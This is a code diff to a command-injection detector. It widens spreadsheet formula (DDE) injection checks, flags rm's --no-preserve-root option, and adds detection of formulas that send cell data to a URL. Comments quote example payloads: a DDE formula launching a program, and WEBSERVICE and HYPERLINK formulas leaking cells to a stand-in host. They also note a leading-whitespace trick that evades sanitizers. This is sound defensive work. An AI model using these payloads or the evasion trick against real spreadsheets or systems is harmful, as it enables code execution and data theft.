@@ -1599,7 +1599,10 @@ class CmdiImpl final : public Detector {
       return true;
     }
     if (in.mask.Has('%') && in.mask.HasAny("&|") && VariablesAsCommand(v, m)) return true;
-    if (in.mask.Has('|') && in.mask.Has('\'') && in.mask.Has('!') && DdeFormula(v, m)) return true;
+    if (((in.mask.Has('|') && in.mask.Has('\'') && in.mask.Has('!')) || in.mask.Has('(')) &&
+        in.mask.HasAny("=+-@") && DdeFormula(v, m)) {
+      return true;
+    }
     // Read in the raw value: normalizing decodes the escapes.
     if (in.mask.Has('$') && in.mask.Has('\'') && AnsiCCommand(in.raw, m)) return found_in_raw();
     static constexpr uint64_t kPhp = CharMask::AlnumOf("php");
@@ -2643,9 +2646,13 @@ class CmdiImpl final : public Detector {
       const bool preload =
           scan::EqualsAny(name, {"--require", "--import", "--loader", "--experimental-loader"}) &&
           path_like(arg);
-      if (runs || find_exec || remote_shell || scp_program || preload) {
+      // rm's guard against deleting "/" turned off.
+      const bool root_unguarded = name == "--no-preserve-root";
+      if (runs || find_exec || remote_shell || scp_program || preload || root_unguarded) {
         return FillMatch(m, "cmdi.argument_injection",
-                         "Option " + std::string(name) + " injected as an argument runs a command",
+                         "Option " + std::string(name) + " injected as an argument " +
+                             (root_unguarded ? "lets rm delete the whole file system"
+                                             : "runs a command"),
                          80, args[i].at, len);
       }
       // "--output=/var/www/html/s.php": even without a URL, a download
@@ -3360,8 +3367,22 @@ class CmdiImpl final : public Detector {
   // value opens as a formula does ('=', '+', '-' or '@').
   static bool DdeFormula(std::string_view v, Match* m) {
     size_t b = 0;
-    while (b < v.size() && (v[b] == ' ' || v[b] == '"' || v[b] == '\'')) ++b;
+    // (A tab or line break first passes sanitizers that look at the first
+    // byte only; the spreadsheet skips it.)
+    while (b < v.size() && (v[b] == ' ' || v[b] == '"' || v[b] == '\'' || v[b] == '\t' ||
+                            v[b] == '\r' || v[b] == '\n')) {
+      ++b;
+    }
     if (b >= v.size() || (v[b] != '=' && v[b] != '+' && v[b] != '-' && v[b] != '@')) return false;
+    // =DDE("cmd";"/C calc";"!A0"), =DDEAUTO(...): the function form.
+    for (std::string_view f : {"dde(", "ddeauto("}) {
+      const size_t p = scan::IFind(v.substr(0, std::min(v.size(), b + 64)), f);
+      if (p != std::string_view::npos && (p == 0 || !IsAlnum(v[p - 1]))) {
+        return FillMatch(m, "cmdi.dde_formula", "spreadsheet formula runs a program through DDE",
+                         80, p, f.size());
+      }
+    }
+    if (FormulaSendsCells(v, b, m)) return true;
     int checks = 8;
     for (size_t bar = v.find("|'", b); bar != std::string_view::npos && checks-- > 0;
          bar = v.find("|'", bar + 2)) {
@@ -3372,6 +3393,42 @@ class CmdiImpl final : public Detector {
       if (close != std::string_view::npos) {
         return FillMatch(m, "cmdi.dde_formula",
                          "spreadsheet formula runs a program through DDE", 80, w, close + 2 - w);
+      }
+    }
+    return false;
+  }
+
+  // A formula (from `b`) that hands cells to a URL it fetches or links to:
+  // =WEBSERVICE("http://x.example/?"&A1), =IMPORTXML(CONCAT("http://…",A1),
+  // "//a"), =HYPERLINK("http://x.example/?d="&B2,"Details"). The cells leave
+  // the workbook of whoever opens the export.
+  static bool FormulaSendsCells(std::string_view v, size_t b, Match* m) {
+    static constexpr std::string_view kFetchers[] = {
+        "webservice(", "importxml(", "importdata(", "importhtml(", "importfeed(",
+        "importrange(", "image(", "hyperlink("};
+    const std::string_view head = v.substr(b, std::min<size_t>(v.size() - b, 512));
+    for (std::string_view f : kFetchers) {
+      const size_t p = scan::IFind(head, f);
+      if (p == std::string_view::npos || (p > 0 && IsAlnum(head[p - 1]))) continue;
+      if (scan::IFind(head, "http") == std::string_view::npos) continue;
+      // A cell reference joined in: after '&' or ',' (CONCAT's arguments).
+      for (size_t k = p + f.size(); k < head.size(); ++k) {
+        if (head[k] != '&' && head[k] != ',') continue;
+        size_t c = k + 1;
+        while (c < head.size() && head[c] == ' ') ++c;
+        size_t letters = c;
+        while (letters < head.size() && letters - c < 3 && head[letters] >= 'A' &&
+               head[letters] <= 'Z') {
+          ++letters;
+        }
+        size_t digits = letters;
+        while (digits < head.size() && digits - letters < 7 && IsDigit(head[digits])) ++digits;
+        if (letters > c && digits > letters &&
+            (digits == head.size() || !(IsAlnum(head[digits]) || head[digits] == '_'))) {
+          return FillMatch(m, "cmdi.dde_formula",
+                           "spreadsheet formula sends cells to a URL it fetches or links to", 75,
+                           b + p, digits - p);
+        }
       }
     }
     return false;
